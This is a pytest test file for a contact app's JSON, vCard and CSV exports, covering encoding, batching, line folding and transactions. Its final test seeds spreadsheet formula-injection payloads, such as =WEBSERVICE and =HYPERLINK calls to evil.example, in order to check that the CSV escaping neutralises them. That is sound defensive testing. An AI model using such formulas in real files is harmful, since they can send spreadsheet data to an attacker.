"""The exports as written: the database-written values match Python's, batches join up."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import pytest

from circleback.accounts.models import User
from circleback.interchange import exports
from circleback.interchange.formats import circleback_json, vcard
from circleback.journal.models import Interaction
from circleback.journal.services import interaction_log
from circleback.people.models import Organisation, Person, Tie
from circleback.people.services.organisations import organisation_get_or_create
from circleback.people.services.ties import tie_set

# Every character JSON must escape, and some it must not.
AWKWARD = 'quote " backslash \\ slash / ' + "".join(map(chr, range(1, 32))) + " é 漢 😀 \u2028 \x7f"


def _journal(owner: User, make_person: Any) -> list[Person]:
    ada = make_person(owner, "Ada Quill")
    bart = make_person(owner, "Bart Nguyen")
    eve = make_person(owner, "Eve Adams")
    hooli = organisation_get_or_create(owner=owner, name="Hooli")
    tie_set(owner=owner, person=ada, other=bart, kind="colleague", strength=4, notes=AWKWARD)
    tie_set(owner=owner, person=bart, other=eve)
    when = dt.datetime(2026, 11, 20, 14, 30, tzinfo=dt.UTC)
    interaction_log(
        owner=owner, summary="Coffee", people=[eve, ada, bart], occurred_at=when, notes=AWKWARD
    )
    interaction_log(
        owner=owner,
        summary="Call with Hooli",
        people=[bart],
        organisation=hooli,
        occurred_at=when.replace(microsecond=123456),
        external_key="k-1",
    )
    interaction_log(owner=owner, summary="A note to self", occurred_at=when.replace(year=1999))
    Interaction.objects.filter(owner=owner, summary="Coffee").update(summary=AWKWARD[:300])
    return [ada, bart, eve]


def _lines(document: bytes, section: str) -> list[str]:
    """The records of one section, as the lines that hold them."""
    text = document.decode("utf-8")
    body = text.split(f'\n "{section}": [\n  ', 1)[1].split("\n ]", 1)[0]
    return [line.removesuffix(",") for line in body.split("\n  ")]


def _encoded(record: dict[str, Any]) -> str:
    return json.dumps(record, ensure_ascii=False)


def test_journal_entries_are_written_exactly_as_the_json_encoder_writes_them(
    alice: User, make_person: Any
) -> None:
    _journal(alice, make_person)
    expected = []
    for entry in Interaction.objects.filter(owner=alice).order_by("pk"):
        record = {
            "uuid": str(entry.uuid),
            "occurred_at": entry.occurred_at.astimezone(dt.UTC).isoformat(),
            "kind": entry.kind,
            "direction": entry.direction,
            "summary": entry.summary,
            "notes": entry.notes,
            "organization": entry.organisation.name if entry.organisation else None,
            "people": sorted(str(p.uuid) for p in entry.people.all()),
            "source": entry.source,
            "external_key": entry.external_key,
            "created_at": entry.created_at.astimezone(dt.UTC).isoformat(),
        }
        expected.append(_encoded(record))
    assert _lines(exports.export_json(owner=alice), "interactions") == expected
    assert any(".123456+00:00" in line for line in expected)


def test_ties_are_written_exactly_as_the_json_encoder_writes_them(
    alice: User, make_person: Any
) -> None:
    _journal(alice, make_person)
    expected = [
        _encoded(
            {
                "uuid": str(tie.uuid),
                "person_a": str(tie.person_a.uuid),
                "person_b": str(tie.person_b.uuid),
                "kind": tie.kind,
                "strength": tie.strength,
                "notes": tie.notes,
                "created_at": tie.created_at.astimezone(dt.UTC).isoformat(),
            }
        )
        for tie in Tie.objects.filter(owner=alice).order_by("pk")
    ]
    assert _lines(exports.export_json(owner=alice), "ties") == expected


def test_people_and_organisations_carry_their_stored_values(alice: User, make_person: Any) -> None:
    ada, bart, _ = _journal(alice, make_person)
    Person.objects.filter(pk=ada.pk).update(
        met_on=dt.date(2020, 2, 29), introduced_by=bart, is_decision_maker=True
    )
    document = exports.backup_document(owner=alice)
    person = next(p for p in document["people"] if p["full_name"] == "Ada Quill")
    ada.refresh_from_db()
    assert person["uuid"] == str(ada.uuid)
    assert person["met_on"] == "2020-02-29"
    assert person["introduced_by"] == str(bart.uuid)
    assert person["is_decision_maker"] is True
    assert person["created_at"] == ada.created_at.astimezone(dt.UTC).isoformat()
    hooli = Organisation.objects.get(owner=alice, name="Hooli")
    [organisation] = document["organizations"]
    assert organisation["uuid"] == str(hooli.uuid) and organisation["is_target"] is False
    assert organisation["created_at"] == hooli.created_at.astimezone(dt.UTC).isoformat()


def test_an_export_read_in_small_batches_is_the_same_file(
    alice: User, make_person: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    _journal(alice, make_person)
    for n in range(5):
        make_person(alice, f"Person {n}", emails=[f"p{n}@example.org"], tags=["x"])
    whole = {
        format: exports.export(owner=alice, format=format) for format in ("json", "vcard", "csv")
    }
    monkeypatch.setattr(exports, "BATCH", 2)
    monkeypatch.setattr(exports, "PEOPLE_BATCH", 2)
    for format, expected in whole.items():
        pieces = list(exports.export_stream(owner=alice, format=format))
        assert len(pieces) > 3
        data = b"".join(pieces)
        if format == "json":
            assert json.loads(data) | {"exported_at": ""} == json.loads(expected) | {
                "exported_at": ""
            }
            data, expected = (
                b"\n".join(line for line in x.split(b"\n") if b'"exported_at"' not in line)
                for x in (data, expected)
            )
        assert data == expected


def test_an_empty_network_exports_empty_lists(alice: User) -> None:
    document = exports.backup_document(owner=alice)
    assert [document[k] for k in ("organizations", "people", "ties", "interactions")] == [[]] * 4
    assert exports.export(owner=alice, format="vcard") == b""
    assert exports.export(owner=alice, format="csv").startswith("\ufeffFull name".encode())


def test_the_json_writer_keeps_one_record_a_line_when_nested_objects_look_alike() -> None:
    people = [
        {"a": 1, "x": [{"a": 2}, {"a": 3}]},
        {"a": 4, "x": []},
    ]
    document = {"format": "f", "people": people, "ties": []}
    text = circleback_json.write(document).decode()
    assert json.loads(text) == document
    assert text.splitlines()[3:5] == [
        '  {"a": 1, "x": [{"a": 2}, {"a": 3}]},',
        '  {"a": 4, "x": []}',
    ]
    assert '"ties": []' in text


def _fold_by_character(line: str) -> str:
    out: list[str] = []
    current: list[str] = []
    size = 0
    for char in line:
        width = len(char.encode("utf-8"))
        if size + width > 75:
            out.append("".join(current))
            current, size = [" "], 1
        current.append(char)
        size += width
    out.append("".join(current))
    return "\r\n".join(out)


@pytest.mark.parametrize("alphabet", ["ab c", "aé€😀"])
def test_vcard_lines_fold_at_75_octets(alphabet: str) -> None:
    for length in [*range(0, 160), 500, 4000]:
        line = (alphabet * length)[:length]
        assert vcard._fold(line) == _fold_by_character(line)


@pytest.mark.django_db(transaction=True)
def test_an_export_outside_a_transaction_reads_one_snapshot_and_ends_it(
    make_person: Any, django_user_model: Any
) -> None:
    from django.db import connection

    owner = django_user_model.objects.create(username="dana")
    _journal(owner, make_person)
    data = exports.export(owner=owner, format="json")
    assert len(json.loads(data)["interactions"]) == 3
    assert not connection.in_atomic_block
    # A download the browser gives up on: the stream is closed half way.
    pieces = exports.export_stream(owner=owner, format="json")
    next(pieces)
    pieces.close()
    assert not connection.in_atomic_block
    assert Person.objects.filter(owner=owner).count() == 3


def test_ties_and_entries_name_only_people_the_file_holds(alice: User, make_person: Any) -> None:
    # A person added while the people were being read is not in the file: nothing names them.
    _journal(alice, make_person)
    assert list(exports._ties(alice, {})) == [""]  # one batch, every tie left out
    [entries] = exports._interactions(alice, {})
    assert [json.loads(line)["people"] for line in entries.split(",\n  ")] == [[]] * 3


def test_csv_cells_never_start_a_spreadsheet_formula(alice: User, make_person: Any) -> None:
    """OWASP's CSV injection: a cell starting with =, +, -, @, tab or CR is written with a
    leading apostrophe, which spreadsheets show as text; other cells are left as they are."""
    make_person(
        alice,
        '=HYPERLINK("http://evil.example","x")',
        organisation='=WEBSERVICE("http://evil.example/?"&A1)',
        title="@SUM(1+1)",
        phones=["+1 415 555 0123"],
        notes="\tindented",
        location="-2+3",
    )
    make_person(alice, "Ada Quill", title="CTO", notes="\rcarriage")
    text = exports.export_csv(owner=alice).decode("utf-8-sig")
    rows = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}
    evil = rows['\'=HYPERLINK("http://evil.example","x")']
    columns = exports.CSV_COLUMNS
    assert evil[columns.index("Organisation")] == '\'=WEBSERVICE("http://evil.example/?"&A1)'
    assert evil[columns.index("Title")] == "'@SUM(1+1)"
    assert evil[columns.index("Phones")] == "'+1 415 555 0123"
    assert evil[columns.index("Notes")] == "'\tindented"
    assert evil[columns.index("Location")] == "'-2+3"
    ada = rows["Ada Quill"]
    assert ada[columns.index("Title")] == "CTO"
    assert ada[columns.index("Notes")] == "'\rcarriage"
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
